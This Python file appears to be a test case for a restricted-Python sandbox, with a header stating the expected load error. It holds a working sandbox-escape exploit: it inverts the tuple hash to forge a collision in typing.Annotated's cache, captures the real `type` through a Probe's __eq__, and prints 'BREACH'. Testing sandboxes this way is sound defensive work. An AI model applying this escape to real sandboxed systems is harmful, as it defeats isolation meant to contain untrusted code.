# attack: the real `type` through typing's other typed cache: Annotated[X, m] is made by a function under
#         _tp_cache(typed=True) called as f(Annotated, X, m), so its key holds type(Annotated), the real `type`:
#         (Annotated, int, 'x', type, type, str). Annotated[p0, p1, p2] has the key (Annotated, p0, p1, p2, type,
#         Probe, Probe, Probe); with a matching hash the cache compares the keys item by item and p2's __eq__
#         receives the real `type`. hash(type) is read off hash(Type[int]) as in literal_cache_key_real_type.py.
# expect: load-error missing-functions
import typing

M64 = (1 << 64) - 1
P1 = 11400714785074694791
P2 = 14029467366897019727
P5 = 2870177450012600261
INV_P1 = pow(P1, -1, 1 << 64)
INV_P2 = pow(P2, -1, 1 << 64)


def rotl(x):
    return ((x << 31) | (x >> 33)) & M64


def rotr(x):
    return ((x >> 31) | (x << 33)) & M64


def step(acc, lane):
    return (rotl((acc + lane * P2) & M64) * P1) & M64


def unstep(after, lane):
    return (rotr((after * INV_P1) & M64) - lane * P2) & M64


def lane_between(before, after):
    return ((rotr((after * INV_P1) & M64) - before) * INV_P2) & M64


def finish(acc, n):
    return (acc + (n ^ (P5 ^ 3527539))) & M64


def unfinish(h, n):
    return (h - (n ^ (P5 ^ 3527539))) & M64


def signed(x):
    return x - (1 << 64) if x >= (1 << 63) else x


def tuple_hash(lanes):
    acc = P5
    for lane in lanes:
        acc = step(acc, lane)
    return finish(acc, len(lanes))



def tuple_hash_prefix(lanes):
    acc = P5
    for lane in lanes:
        acc = step(acc, lane)
    return acc


def single_frozenset_member(h):  # the hash of the one member of a frozenset whose hash is h
    h = ((h - 907133923) * pow(69069, -1, 1 << 64)) & M64
    x = h
    for _ in range(8):
        x = h ^ (x >> 11) ^ (x >> 25)
    x ^= (2 * 1927868237) & M64
    g = ((x * pow(3644798167, -1, 1 << 64)) & M64) ^ 89869747
    return (g ^ (g << 16) ^ (g << 32) ^ (g << 48)) & M64


acc1 = unstep(unfinish(hash(typing.Type[int]) & M64, 2), hash((int,)) & M64)
type_lane = lane_between(P5, acc1)

captured = []


class Probe:
    def __init__(self, h):
        self.h = h

    def __hash__(self):
        return self.h

    def __eq__(self, other):
        captured.append(other)
        return True


ann = hash(typing.Annotated) & M64
stored = tuple_hash([ann, hash(int) & M64, hash('x') & M64, type_lane, type_lane, hash(str) & M64])
probe = hash(Probe) & M64
h0, h1 = 1, 2
prefix = tuple_hash_prefix([ann, h0, h1])
after = unfinish(stored, 8)
for lane in (probe, probe, probe, type_lane):
    after = unstep(after, lane)
h2 = signed(lane_between(prefix, after))
typing.Annotated[int, 'x']
try:
    typing.Annotated[Probe(h0), Probe(h1), Probe(h2)]
except Exception:
    pass
for found in captured:
    try:
        made = found('Made', (), {'__del__': lambda self: None})
        print('BREACH: real type via typing.Annotated cache', made)
        break
    except Exception:
        pass
